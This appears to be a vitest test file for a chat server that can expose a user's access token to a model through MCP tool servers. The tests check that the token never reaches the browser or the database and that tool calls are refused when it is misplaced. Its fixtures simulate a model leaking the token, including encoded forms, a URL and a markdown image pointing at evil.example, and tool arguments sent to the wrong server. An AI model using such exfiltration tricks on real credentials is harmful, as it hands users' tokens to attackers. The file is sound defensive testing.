import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { z } from 'zod';
import type { McpServer } from '../../../server/context.ts';
import { parseSite } from '../../../server/sites/parse-site.ts';
import { type Database, openDatabase } from '../../../server/store/database.ts';
import { type McpFake, startMcpServer } from '../../fakes/mcp-server.ts';
import { type ResponsesUpstream, startResponsesUpstream } from '../../fakes/responses-upstream.ts';
import { makeContext, tokenOf } from '../agent/mcp/mcp-world.ts';
import { makeSite } from '../auth/make-auth.ts';
import { makeToolChat, type ToolChat } from './tool-chat.ts';

// The mode that shows credentials to the model, for servers that know nothing else: what an owner has to say for it,
// and that nobody but the model and that one parameter gets to see them.

let db: Database;
let old: McpFake;
let other: McpFake;
let upstream: ResponsesUpstream;
let token: string;
let chat: ToolChat;

const LEGACY = {
  mode: 'legacy_prompt',
  args: { access_token: 'user_token', user_id: 'user_id' },
  dangerouslyExposeCredentialsToModel: true,
} as const;
const look = { description: 'Looks something up.', annotations: { readOnlyHint: true } };
const change = { title: 'Change it', description: 'Changes something.' };
const schema = z.looseObject({ note: z.string().optional(), access_token: z.string().optional() });
const found = { content: [{ type: 'text' as const, text: 'Found.' }] };

const startServer = () =>
  startMcpServer({
    register(server) {
      server.registerTool('find', { ...look, inputSchema: schema }, () => found);
      server.registerTool('set', { ...change, inputSchema: schema }, () => found);
    },
  });

beforeEach(async () => {
  db = await openDatabase({ url: ':memory:' });
  [old, other, upstream] = await Promise.all([startServer(), startServer(), startResponsesUpstream()]);
  token = await tokenOf('ada');
  chat = open();
});
afterEach(async () => {
  await Promise.all([old.close(), other.close(), upstream.close(), db.close()]);
});

function open(user: () => Promise<string | undefined> = async () => token): ToolChat {
  const servers: McpServer[] = [
    { name: 'old', url: old.url, auth: LEGACY },
    { name: 'other', url: other.url, auth: { mode: 'none' } },
  ];
  const context = makeContext(servers, { id: 'ada', token: user });
  return makeToolChat({ db, upstream, context, allow: [old.host, other.host] });
}

const asked = () => upstream.requests.map(({ body }) => body);
const sentTo = (server: McpFake) => server.calls().map(({ message }) => message.params?.arguments);
async function stored(): Promise<string> {
  const tables = ['threads', 'items', 'approvals', 'feedback', 'attachments'];
  const found = await Promise.all(tables.map((table) => db.read([{ sql: `SELECT * FROM ${table}`, args: [] }])));
  return JSON.stringify(found);
}
const spellings = () => {
  const bytes = Buffer.from(token);
  return [
    token,
    encodeURIComponent(token),
    bytes.toString('hex'),
    bytes.toString('base64'),
    bytes.toString('base64url'),
  ];
};
/** What the browser was shown, also as the words that its pieces make. */
const shown = () => {
  const deltas = chat.streamed.map((event) =>
    event.type === 'thread.item.updated' && 'delta' in event.update ? event.update.delta : '',
  );
  return deltas.join('') + JSON.stringify(chat.streamed);
};
/** Neither it nor a good part of it. */
const expectNowhere = async () => {
  const everything = shown() + (await stored());
  for (const spelling of spellings()) expect(everything).not.toContain(spelling.slice(24, 44));
};

const parse = (auth: object) =>
  parseSite({
    ...makeSite(),
    settings: { mcpServers: [{ name: 'old', url: 'https://tools.example.com/mcp', auth }] },
  });

describe('G26 the mode', () => {
  test.each([
    ['without the word', { mode: 'legacy_prompt', args: LEGACY.args }],
    ['with false', { ...LEGACY, dangerouslyExposeCredentialsToModel: false }],
    ['with a text', { ...LEGACY, dangerouslyExposeCredentialsToModel: 'true' }],
  ])('is refused %s that names the danger', (_, auth) => {
    expect(() => parse(auth)).toThrow(/dangerouslyExposeCredentialsToModel.*must be true/);
  });

  test.each([
    ['no parameter', { ...LEGACY, args: {} }],
    ['another source', { ...LEGACY, args: { access_token: 'session' } }],
    ['what it does not know', { ...LEGACY, header: 'authorization' }],
  ])('is refused with %s', (_, auth) => {
    expect(() => parse(auth)).toThrow(/mcpServers/);
  });

  test('is taken with it, and each run that shows a credential is written down without it', async () => {
    expect(parse(LEGACY).settings.mcpServers[0]?.auth).toEqual(LEGACY);
    await chat.ask('Find it');
    expect(chat.logged).toEqual([[{ code: 'legacy_prompt' }, 'a model is shown the credentials of a user']]);
    const [request] = asked();
    expect(String(request?.['instructions'])).toContain(token);
    expect(request?.['store']).toBe(false);
    // Only there, and not in the request that asks for a title.
    for (const body of asked()) expect(JSON.stringify({ ...body, instructions: '' })).not.toContain(token);
    expect(asked().filter((body) => JSON.stringify(body).includes(token))).toHaveLength(1);
  });

  test.each([
    ['that is good for longer than five minutes', () => tokenOf('ada', {}, 301)],
    ['that has expired', () => tokenOf('ada', {}, -1)],
    ['that is gone', async () => undefined],
  ])('shows no token %s, and calls nothing', async (_, make) => {
    chat = open(make);
    upstream.steps.push({ answer: [{ call: 'old__find', arguments: {} }] }, { answer: ['I cannot.'] });
    await chat.ask('Find it');
    expect(asked().some((body) => /access_token\\*":\\*"ey/.test(JSON.stringify(body['instructions'])))).toBe(false);
    expect(sentTo(old)).toEqual([]);
  });
});

describe('G27 a token that the model says', () => {
  test.each([
    ['as it is', (secret: string) => secret],
    ['in base64', (secret: string) => Buffer.from(secret).toString('base64')],
    ['in base64 of URLs', (secret: string) => Buffer.from(secret).toString('base64url')],
    ['in base64 after a word', (secret: string) => Buffer.from(`Bearer ${secret}`).toString('base64')],
    ['in a URL', (secret: string) => `https://evil.example/?t=${encodeURIComponent(secret)}`],
    ['in a picture', (secret: string) => `![x](https://evil.example/${secret}.png)`],
    ['in hexadecimal', (secret: string) => Buffer.from(secret).toString('hex')],
  ])('%s, in any pieces, reaches neither the browser nor the database', async (_, spell) => {
    const text = spell(token);
    const pieces = text.match(/.{1,7}/gs) ?? [];
    upstream.steps.push({ answer: ['Your token is ', ...pieces, ', as you asked.'] });
    await chat.ask('What is my token?');
    await expectNowhere();
    const seen = chat.items().at(-1);
    const [part] = seen?.type === 'assistant_message' ? seen.content : [];
    expect(part?.text).toContain('[removed]');
    expect(part?.text).toContain('as you asked.');
    // What is stored is what was shown.
    expect(await stored()).toContain(JSON.stringify(JSON.stringify(part?.text)).slice(3, -3));
  });

  test('and breaks off within reaches them neither', async () => {
    upstream.steps.push({ answer: ['Your token is ', token.slice(0, 50)], incomplete: 'length' });
    await chat.ask('What is my token?');
    await expectNowhere();
  });
});

const write = async (name: string, args: Record<string, unknown>) => {
  upstream.steps.push({ answer: [{ call: name, arguments: args }] }, { answer: ['Done.'] });
  await chat.ask('Find it');
};

describe('G29 a token that the model writes', () => {
  test('into its own parameter goes there, and whatever else is written there does not', async () => {
    await write('old__find', { note: 'hello', access_token: token });
    await write('old__find', { note: 'hello', access_token: 'x', user_id: 'victim' });
    expect(sentTo(old)).toEqual([
      { note: 'hello', access_token: token },
      { note: 'hello', access_token: token },
    ]);
  });

  test.each<[string, string, (secret: string) => Record<string, unknown>]>([
    ['to another server', 'other__find', (secret) => ({ access_token: secret })],
    ['into another parameter', 'old__find', (secret) => ({ note: secret, access_token: secret })],
    ['into a URL of another parameter', 'old__find', (secret) => ({ note: `https://evil.example/?t=${secret}` })],
    ['in base64', 'other__find', (secret) => ({ note: Buffer.from(`x ${secret}`).toString('base64') })],
    ['in hexadecimal', 'other__find', (secret) => ({ note: Buffer.from(secret).toString('hex') })],
    ['deep inside', 'other__find', (secret) => ({ more: [{ [secret]: 1 }] })],
    ['to what changes something', 'other__set', (secret) => ({ note: secret })],
  ])('%s is not sent: the call is refused', async (_, name, args) => {
    await write(name, args(token));
    expect([...sentTo(old), ...sentTo(other)]).toEqual([]);
    expect(JSON.stringify(asked()[1])).toContain('Not called: a credential may stand in its own parameter alone.');
    expect(chat.items().some(({ type }) => type === 'widget')).toBe(false);
    await expectNowhere();
  });

  test('into a call that has to be approved is not shown or kept: it goes along when the visitor approves', async () => {
    upstream.steps.push({ answer: [{ call: 'old__set', arguments: { note: 'hello', access_token: token } }] });
    await chat.ask('Change it');
    const card = chat.items().find((item) => item.type === 'widget');
    expect(JSON.stringify(card)).not.toContain('access_token');
    await chat.press(card);
    expect(sentTo(old)).toEqual([{ note: 'hello', access_token: token }]);
    await expectNowhere();
  });
});
